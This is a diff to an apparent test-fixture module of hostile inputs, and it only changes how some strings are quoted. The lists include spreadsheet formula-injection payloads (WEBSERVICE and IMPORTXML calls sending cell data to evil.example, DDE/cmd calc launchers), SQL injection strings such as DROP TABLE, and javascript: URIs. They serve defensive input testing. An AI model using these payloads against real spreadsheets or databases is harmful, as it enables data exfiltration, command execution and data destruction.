@@ -191,12 +191,12 @@ _LONG.append(LONGEST)
 _FORMULA_PAYLOADS = [
     "1+1",
     "SUM(A1:A9)",
-    "HYPERLINK(\"http://evil.example\",\"click\")",
+    'HYPERLINK("http://evil.example","click")',
     "cmd|' /C calc'!A0",
     "2+5+cmd|' /C calc'!A0",
-    "WEBSERVICE(\"http://evil.example/?\"&A1)",
-    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
-    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    'WEBSERVICE("http://evil.example/?"&A1)',
+    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    'DDE("cmd";"/C calc";"!A0")',
     "-2+3",
     "@SUM(1,1)",
 ]
@@ -236,7 +236,7 @@ _FORMULA += [
 
 _SQL = [
     "'; DROP TABLE event; --",
-    "\"; DROP TABLE risk; --",
+    '"; DROP TABLE risk; --',
     "1 OR 1=1",
     "' OR '1'='1",
     "admin'--",
@@ -274,7 +274,7 @@ _PATHS = [
     "aux",
     "name.",
     "name ",
-    "a/b\\c:d*e?f\"g<h>i|j",
+    'a/b\\c:d*e?f"g<h>i|j',
     "http://example.org/a?b=c&d=e#f",
     "javascript:alert(1)",
     "data:text/html,<b>x</b>",
@@ -305,7 +305,7 @@ _NULLISH = [
     "[]",
     "{}",
     "()",
-    "\"\"",
+    '""',
     "''''",
     "-",
     "—",
